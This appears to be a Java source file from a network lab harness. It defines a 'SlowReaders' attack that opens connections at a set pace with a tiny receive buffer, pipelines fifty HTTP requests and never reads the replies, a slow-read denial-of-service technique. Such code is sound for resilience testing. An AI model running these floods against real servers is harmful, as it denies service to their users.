package io.tcpwait.lab.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;

/**
 * Clients that ask for more pages than the kernel buffers, and do not read them.
 *
 * @param perSecond new connections a second
 */
public record SlowReaders(int perSecond) implements Attack {
  private static final int RECEIVE_BUFFER_BYTES = 1024;
  private static final byte[] REQUESTS =
      "GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n".repeat(50).getBytes(US_ASCII);

  @Override
  public String name() {
    return "slow_readers_" + perSecond;
  }

  @Override
  public long run(InetSocketAddress target, int seconds) throws IOException, InterruptedException {
    return Held.atPace(
        target, perSecond, seconds, held -> held.open(null, RECEIVE_BUFFER_BYTES, REQUESTS));
  }
}
